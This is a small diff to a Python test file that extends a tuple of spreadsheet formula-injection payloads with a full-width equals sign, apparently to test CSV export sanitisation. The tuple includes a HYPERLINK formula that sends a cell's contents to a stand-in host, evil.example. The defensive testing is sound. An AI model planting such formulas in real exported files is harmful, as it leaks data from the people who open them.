@@ -15,7 +15,7 @@ from deliberation.services import facilitation, moderation
 from tests import factories
 
 PAYLOADS = ('=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1", "-x", "@x",
-            "\tx", "\rx")
+            "\tx", "\rx", "＝1+1")
 
 
 _numbers = itertools.count(1)
